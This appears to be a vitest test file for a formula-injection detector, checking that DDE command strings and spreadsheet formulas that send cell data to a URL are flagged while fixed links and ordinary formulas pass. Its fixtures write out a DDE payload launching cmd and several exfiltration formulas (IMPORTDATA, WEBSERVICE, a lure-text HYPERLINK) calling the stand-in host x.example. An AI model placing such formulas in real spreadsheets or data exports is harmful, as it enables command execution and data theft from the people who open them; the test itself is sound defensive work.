/**
 * Formula injection beyond the DDE pipe (core/signatures/formula-injection.ts):
 * DDE's function form is 932201, a network function whose URL is built from
 * the sheet's cells is 920269 in a text field; fixed links and images, and
 * formulas in fields made for them, pass.
 */
import { describe, expect, it } from "vitest";
import { formulaAbuse } from "../../../core/signatures/formula-injection.ts";
import { jsonInput, rulesOf } from "./support.ts";

const rules = (body: unknown): string[] => rulesOf(jsonInput(body));

describe("formula injection", () => {
  it("names DDE's function form and cell data sent to a URL", () => {
    expect(formulaAbuse("value", '=DDE("cmd";"/C calc";"!A0")A0')).toBe("dde");
    for (const [key, v] of [
      ["description", '=IMPORTDATA("https://x.example/c?"&JOIN(",",A1:A200))'],
      ["note", '=WEBSERVICE("https://x.example/?"&ENCODEURL(A1&B1&C1))'],
      ["subject", '=HYPERLINK("http://x.example/log?"&A1&"|"&B1,"Error loading data - click to refresh")'],
      ["merchant", ' +IMPORTXML(CONCAT("http://x.example/?",A2),"//a")'],
    ] as const)
      expect(formulaAbuse(key, v), v).toBe("exfiltration");
  });

  it("leaves fixed links, plain formulas, formula fields and prose alone", () => {
    for (const [key, v] of [
      ["value", '=HYPERLINK("https://reports.example.com/q1-2024","Q1 report")'],
      ["note", "=SUM(A1:A9)"],
      ["formula", '=IMAGE("https://chart.example.com/qr?chl="&A2)'],
      ["B", '=HYPERLINK("https://jira.example.com/browse/"&A2, A2)'],
      ["note", 'see the image at "https://x.example/a.png" & more'],
      ["note", "-5 degrees (IMAGE below)"],
    ] as const)
      expect(formulaAbuse(key, v), v).toBeNull();
  });

  it("is 932201 or 920269 in a body field", () => {
    expect(rules({ value: '=DDE("cmd";"/C calc";"!A0")' })).toContain("932201");
    expect(rules({ note: '=WEBSERVICE("https://x.example/?"&ENCODEURL(A1))' })).toContain("920269");
    expect(rules({ cells: { B: '=IMAGE("https://x.example/i.png?x="&ENCODEURL(C2&D2))' } })).toEqual([]);
  });
});
